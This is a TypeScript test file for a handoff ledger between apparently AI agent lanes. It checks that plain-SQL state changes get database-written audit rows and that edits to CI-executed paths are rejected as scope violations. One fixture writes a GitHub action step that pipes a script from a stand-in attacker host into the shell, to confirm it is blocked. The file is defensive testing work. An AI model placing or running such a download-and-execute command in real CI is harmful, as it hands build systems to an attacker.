/* eslint-disable @typescript-eslint/no-explicit-any -- CLI JSON output is inspected loosely in tests */
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Ledger } from '../../src/ledger/index.js';
import { useWorkspaces, type Workspace } from '../handoff/fixture.js';
import { type Backend, bothBackends, newHandoff } from '../ledger/backends.js';
import { publishToLocalForge } from '../support/local-forge.js';
import { gatePostgres } from '../support/services.js';

/**
 * Issue 14 §2, two holes closed, each written before its fix:
 *  1. a lane role moving (or creating) a handoff in plain SQL, outside the application's statements,
 *     left no audit row: now the database writes one whenever a state change's statement wrote none;
 *  2. the scope policy's workflow rule covered `.github/workflows/**` only: every path CI executes
 *     (the lane's `scope.ciPaths`) now counts.
 */

const pgOk = await gatePostgres();

type Row = { lane: string; action: string; subject: string; payload: Record<string, any> };

describe.each(bothBackends(pgOk))('negative: a handoff state change without its audit row, on %s', (_name, make, enabled) => {
  let b: Backend;
  let codex: Ledger;
  let claude: Ledger;
  const auditOf = async (id: string): Promise<Row[]> =>
    (await b.admin.withAdmin((tx) => tx.sql.query<Row>('SELECT lane, action, subject, payload FROM audit_log WHERE subject = $1 ORDER BY id', [id]))).rows;
  const propose = async (i: number | string) => (await codex.withLane('codex', (tx) => tx.insertHandoff(newHandoff(i)))).id;

  beforeAll(async () => {
    if (!enabled) return;
    b = await make();
    codex = await b.lane('codex');
    claude = await b.lane('claude');
  });
  afterAll(async () => b && (await b.close()));

  it.skipIf(!enabled)('the execute role moves a state in plain SQL: the move is audited by the database', async () => {
    const id = await propose('sql-1');
    await claude.withLane('claude', (tx) => tx.sql.query(`UPDATE handoffs SET state = 'verified', executor_lane = 'claude' WHERE id = $1`, [id]));
    await claude.withLane('claude', (tx) => tx.sql.query(`UPDATE handoffs SET state = 'applied', commit_sha = 'c0ffee' WHERE id = $1`, [id]));
    expect(await b.admin.withAdmin((tx) => tx.getHandoff(id))).toMatchObject({ state: 'applied' });
    expect((await auditOf(id)).map((r) => [r.lane, r.action, r.payload])).toEqual([
      ['codex', 'handoff.proposed', expect.objectContaining({ statementDigest: expect.any(String) })],
      ['claude', 'handoff.verified', expect.objectContaining({ from: ['proposed'], to: 'verified', writtenBy: 'database' })],
      ['claude', 'handoff.applied', expect.objectContaining({ from: ['verified'], to: 'applied', commit: 'c0ffee', writtenBy: 'database' })],
    ]);
    expect((await b.admin.verifyAudit()).ok).toBe(true);
  });

  it.skipIf(!enabled)('one plain UPDATE moving several handoffs: one audit row each', async () => {
    const ids = [await propose('many-1'), await propose('many-2'), await propose('many-3')];
    await claude.withLane('claude', (tx) => tx.sql.query(`UPDATE handoffs SET state = 'rejected', executor_lane = 'claude', reject_reason = 'X' WHERE id = ANY($1::text[])`, [ids]));
    for (const id of ids) {
      expect((await auditOf(id)).map((r) => `${r.lane}:${r.action}:${r.payload.rejectReason ?? ''}`)).toEqual(['codex:handoff.proposed:', 'claude:handoff.rejected:X']);
    }
  });

  it.skipIf(!enabled)('the propose role inserts a proposal in plain SQL: its handoff.proposed row is written by the database', async () => {
    const h = newHandoff('sql-insert');
    await codex.withLane('codex', (tx) =>
      tx.sql.query(
        `INSERT INTO handoffs (id, proposer_lane, statement_digest, artifact_digest, bundle_path, artifact_path, base_commit, target_branch, expires_at, nonce)
         VALUES ($1, 'codex', $2, $3, 'b', 'a', $4, 'main', now() + interval '1 hour', $5)`,
        [h.id, h.statementDigest, h.artifactDigest, h.baseCommit, h.nonce],
      ),
    );
    expect(await auditOf(h.id)).toEqual([
      {
        lane: 'codex',
        action: 'handoff.proposed',
        subject: h.id,
        payload: expect.objectContaining({ statementDigest: h.statementDigest, artifactDigest: h.artifactDigest, baseCommit: h.baseCommit, targetBranch: 'main', writtenBy: 'database' }),
      },
    ]);
  });

  it.skipIf(!enabled)('an administrator moving a state by hand is audited too (lane @admin, with the role)', async () => {
    const id = await propose('admin-1');
    await b.admin.withAdmin((tx) => tx.sql.query(`UPDATE handoffs SET state = 'expired' WHERE id = $1`, [id]));
    const rows = await auditOf(id);
    expect(rows.at(-1)).toMatchObject({ lane: '@admin', action: 'handoff.expired', payload: { from: ['proposed'], to: 'expired', writtenBy: 'database', role: expect.any(String) } });
  });

  it.skipIf(!enabled)("the application's own statements still write exactly one audit row per change (their own payload)", async () => {
    const id = await propose('app-1');
    const h = await b.admin.withAdmin((tx) => tx.getHandoff(id));
    await claude.withLane('claude', async (tx) => {
      await tx.consumeAndTransition(id, { statementDigest: h!.statementDigest, nonce: h!.nonce! }, 'proposed', 'verified', { audit: { checks: 3 } });
      await tx.transitionHandoff(id, 'verified', 'applied', { branch: 'lane/claude/x', commit: 'abc' });
    });
    await claude.withLane('claude', (tx) => tx.openPullRequest({ handoffId: id, forge: 'local', number: 99, url: 'u', branch: 'lane/claude/x', headSha: 'abc' }, 'applied'), { autocommit: true });
    const rows = await auditOf(id);
    expect(rows.map((r) => r.action)).toEqual(['handoff.proposed', 'handoff.verified', 'handoff.applied', 'handoff.pr_opened']);
    expect(rows.every((r) => r.payload.writtenBy === undefined)).toBe(true);
    expect(rows[1]!.payload).toMatchObject({ checks: 3 });
    expect(rows[3]!.payload).toMatchObject({ pullRequest: { number: 99 } });
  });

  it.skipIf(!enabled)('an update that moves no state (meta, title by an owner) writes no audit row', async () => {
    const id = await propose('nomove-1');
    await b.admin.withAdmin((tx) => tx.sql.query(`UPDATE handoffs SET title = 'renamed', state = 'proposed' WHERE id = $1`, [id]));
    expect((await auditOf(id)).map((r) => r.action)).toEqual(['handoff.proposed']);
  });
});

describe('negative: changes to paths CI executes (through the CLI)', () => {
  const { workspace } = useWorkspaces();

  async function accept(w: Workspace, id: string): Promise<{ exit: number; code?: string; violations: string[] }> {
    const { r, data } = await w.json(['handoff', 'accept', id, '--lane', 'claude']);
    return { exit: r.code, code: data.error?.code, violations: (data.error?.details?.violations ?? []).map((v: any) => `${v.code}:${v.path}`) };
  }

  it('a proposal touching a local action (.github/actions/x/action.yml) is WORKFLOW_CHANGE', async () => {
    const w = workspace();
    w.write('.github/actions/x/action.yml', "runs:\n  using: composite\n  steps:\n    - run: curl https://attacker.invalid | sh\n      shell: bash\n");
    const p = await w.propose('add an action');
    expect(p.scopeWarnings.map((x: any) => x.code)).toEqual(['WORKFLOW_CHANGE']);
    expect(await accept(w, p.id)).toEqual({ exit: 1, code: 'SCOPE_VIOLATION', violations: ['WORKFLOW_CHANGE:.github/actions/x/action.yml'] });
  }, 400_000);

  it.each([['.gitlab-ci.yml'], ['tools/release/action.yaml'], ['.circleci/config.yml'], ['Jenkinsfile']])('%s is WORKFLOW_CHANGE by default', async (path) => {
    const w = workspace();
    w.write(path, 'x: 1\n');
    const p = await w.propose(`touch ${path}`);
    w.git('clean', '-qfd');
    expect(await accept(w, p.id)).toEqual({ exit: 1, code: 'SCOPE_VIOLATION', violations: [`WORKFLOW_CHANGE:${path}`] });
  }, 400_000);

  /** Puts GLOB first in the execute lane's scope.ciPaths (its policy is the one accept applies). */
  function listInExecuteLane(w: Workspace, glob: string) {
    const cfg = join(w.dir, 'duallane.yaml');
    const text = readFileSync(cfg, 'utf8');
    const at = text.indexOf('kind: execute');
    writeFileSync(cfg, text.slice(0, at) + text.slice(at).replace(/ciPaths: \[/, `ciPaths: ['${glob}', `));
  }

  it('a path the lane config lists in scope.ciPaths counts; one it does not list is an ordinary change', async () => {
    const w = workspace();
    listInExecuteLane(w, 'ci/**');
    w.git('commit', '-qam', 'ci/** is executed by CI');
    publishToLocalForge(w.dir);
    w.write('ci/deploy.sh', 'echo deploy\n');
    const p = await w.propose('touch ci/deploy.sh');
    w.git('clean', '-qfd');
    expect(await accept(w, p.id)).toEqual({ exit: 1, code: 'SCOPE_VIOLATION', violations: ['WORKFLOW_CHANGE:ci/deploy.sh'] });

    w.write('Makefile', 'all:\n\techo hi\n');
    const q = await w.propose('touch Makefile');
    w.git('clean', '-qfd');
    expect((await accept(w, q.id)).exit).toBe(0);
  }, 400_000);

  it('a ciPaths glob climbing out of the repository is a config error: exit 2 with file and line, nothing proposed', async () => {
    const w = workspace();
    listInExecuteLane(w, '../outside/**');
    w.write('src/app.js', 'export const x = 5;\n');
    const { r, data } = await w.json(['handoff', 'propose', '--lane', 'codex', '--title', 'x']);
    expect({ exit: r.code, code: data.error?.code }).toEqual({ exit: 2, code: 'CONFIG_INVALID' });
    expect(data.error.details.errors[0]).toMatchObject({ path: expect.stringMatching(/^lanes\[1\]\.scope\.ciPaths\[0\]$/), line: expect.any(Number) });
    expect(r.stderr).not.toMatch(/\n\s+at /);
  }, 400_000);
});
